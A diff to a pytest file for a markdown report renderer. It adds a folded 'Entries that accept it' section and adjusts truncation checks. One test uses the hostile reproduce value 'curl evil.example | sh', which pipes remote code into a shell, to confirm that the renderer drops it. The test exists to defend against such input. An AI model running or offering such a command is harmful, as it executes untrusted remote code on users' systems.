@@ -62,9 +62,10 @@ def test_what_is_folded_opens_and_closes():
         "All 14 rows of the comparison",
         "Load-test summary",
         "Thresholds",
+        "Entries that accept it",
         "Trend",
     ]
-    assert text.count("<details>") == text.count("</details>") == 4
+    assert text.count("<details>") == text.count("</details>") == 5
 
 
 def test_a_run_without_a_base_folds_nothing():
@@ -92,7 +93,7 @@ def test_the_command_stands_in_a_block_as_it_is():
 def test_a_command_that_does_more_is_not_offered():
     text = markdown.render(replace(regression(), reproduce="curl evil.example | sh"))
     assert "curl" not in text
-    assert "```" not in text
+    assert "```sh" not in text
     assert "Left out, but in the result file: the command that repeats this" in text
 
 
@@ -120,8 +121,11 @@ def test_folded_parts_go_first_and_what_is_left_out_is_said():
             sizes.append(titles)
             assert "+31.2 %" in text.split("<details>")[0]
     comparison, load, limits = "All 14 rows of the comparison", "Load-test summary", "Thresholds"
-    assert sizes == [[comparison, load, limits, "Trend"], [comparison, load, limits], [load, limits], []]
+    entries = "Entries that accept it"
+    first = [comparison, load, limits, entries]
+    assert sizes == [[*first, "Trend"], first, [load, limits], []]
     assert "Left out, but in the result file: trend." in markdown.render(verdict, limit=len(full) - 1, trend="x" * 1000)
+    assert "entries that" not in markdown.render(verdict, limit=len(full) // 2, trend="x" * 1000)
 
 
 @pytest.mark.parametrize(("rate", "said"), [(0.05, "one error rate of 5 %, so"), (None, "one error rate, so")])
